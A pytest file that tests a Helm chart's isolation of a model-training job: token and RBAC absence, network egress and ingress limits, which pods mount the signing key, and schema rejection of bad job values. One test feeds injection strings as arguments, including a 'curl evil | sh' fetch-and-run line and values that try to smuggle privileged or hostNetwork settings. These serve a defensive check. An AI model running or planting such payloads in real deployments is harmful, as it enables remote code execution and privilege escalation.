"""What a training job may reach: it holds the key that signs models, and reads tables that others wrote."""

import functools
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from chart import CHART, Helm

from .chart_network import OUTSIDE, Network, Pod, pods_of
from .chart_rendered import NAMESPACE, RELEASE, Object, everything, rights_of

PROMETHEUS = "http://prometheus.monitoring:9090"
Render = Callable[[Object], list[Object]]


@pytest.fixture(scope="module")
def charts(helm: Path, tmp_path_factory: pytest.TempPathFactory) -> Helm:
    return Helm(helm, tmp_path_factory.mktemp("training"))


@pytest.fixture(scope="module")
def objects(charts: Helm) -> list[Object]:
    """Every component, and one training job that reads a Prometheus server."""
    return charts.render(everything(training=training_of([f"--prometheus={PROMETHEUS}", "--query=up"])))


def training_of(arguments: list[str], **job: object) -> Object:
    jobs = [{"name": "demand", "predictor": "demand", "schedule": "@weekly", "arguments": arguments} | job]
    return {"jobs": jobs, "signingSecret": "kopt-signing"}


def training_pod(objects: list[Object]) -> Pod:
    (pod,) = [pod for pod in pods_of(objects) if pod.component == "training"]
    return pod


def mounted(pod: Pod) -> Iterator[str]:
    """Names of the Secrets that a pod sees as files or variables."""
    for volume in pod.spec.get("volumes", ()):
        sources = volume.get("projected", {}).get("sources", [volume])
        yield from (
            source["secret"].get("name") or source["secret"]["secretName"] for source in sources if "secret" in source
        )
    for container in pod.spec["containers"]:
        yield from (source["secretRef"]["name"] for source in container.get("envFrom", ()))
        yield from (
            variable["valueFrom"]["secretKeyRef"]["name"]
            for variable in container.get("env", ())
            if "secretKeyRef" in variable.get("valueFrom", {})
        )


def test_it_has_no_token_and_its_account_no_right(objects: list[Object]) -> None:
    pod = training_pod(objects)
    assert pod.account == (NAMESPACE, "kopt-training")
    assert pod.spec["automountServiceAccountToken"] is False
    assert not [volume for volume in pod.spec["volumes"] if "serviceAccountToken" in str(volume)]
    assert not [right for right in rights_of(objects) if right.account.endswith(":kopt-training")]


def test_it_reaches_the_registry_and_its_source_and_no_component_of_ours(objects: list[Object]) -> None:
    network, pod, outside = Network(objects), training_pod(objects), Pod("outside", address=OUTSIDE)
    open_ports = {port for port in range(1, 10_000) if network.lets(pod, outside, port)}
    assert open_ports == {5000, 9090}
    for other in pods_of(objects):
        for port in other.ports().values():
            assert not network.lets(pod, other, port), (other.name, port)


def test_nobody_reaches_it(objects: list[Object]) -> None:
    network, pod = Network(objects), training_pod(objects)
    others = [*pods_of(objects), Pod("prometheus", "monitoring"), Pod("stranger", "research")]
    assert not [other.name for other in others for port in (22, 6379, 8265, 9444) if network.lets(other, pod, port)]


def test_the_key_is_in_its_pods_alone_and_the_database_in_none_of_them(charts: Helm) -> None:
    values = everything(training=training_of([]))
    values["predictions"] |= {"envSecret": "kopt-registry", "keysSecret": "kopt-keys"}
    objects = charts.render(values)
    assert {pod.name for pod in pods_of(objects) if "kopt-signing" in mounted(pod)} == {"kopt-training-demand"}
    assert set(mounted(training_pod(objects))) == {"kopt-signing", "kopt-keys", "kopt-registry"}
    for volume in training_pod(objects).spec["volumes"]:
        assert not {"hostPath", "configMap"} & volume.keys(), volume


@pytest.mark.parametrize(
    "argument",
    ["a\nsecurityContext: {privileged: true}", "'; curl evil | sh; '", '"}], "hostNetwork": true', "{{ fail }}"],
)
def test_an_argument_stays_an_argument(charts: Helm, argument: str) -> None:
    (container,) = training_pod(charts.render(everything(training=training_of([argument])))).spec["containers"]
    assert container["args"] == ["train", "demand", argument]
    assert "command" not in container, "no shell reads it"


def test_a_url_inside_of_a_query_opens_no_port(charts: Helm) -> None:
    query = '--query=sum(up{instance="http://10.0.0.1:22"})'
    objects = charts.render(everything(training=training_of([query, "--prometheus", PROMETHEUS])))
    lets = functools.partial(Network(objects).lets, training_pod(objects), Pod("outside", address=OUTSIDE))
    assert (lets(22), lets(9090)) == (False, True)


@pytest.mark.parametrize(
    ("job", "message"),
    [
        ({"name": "Demand"}, "training/jobs/0/name"),
        ({"name": "x" * 39}, "training/jobs/0/name"),
        ({"predictor": "demand --help"}, "training/jobs/0/predictor"),
        ({"schedule": "TZ=Europe/Berlin 0 3 * * 0"}, "training/jobs/0/schedule"),
        ({"image": "evil"}, "training/jobs/0"),
    ],
)
def test_what_is_no_training_is_refused_by_name(charts: Helm, job: Object, message: str) -> None:
    values = everything(training=training_of([], **job))
    done = charts.run("template", RELEASE, CHART, "--namespace", NAMESPACE, values=values)
    assert done.returncode != 0
    assert message in done.stderr
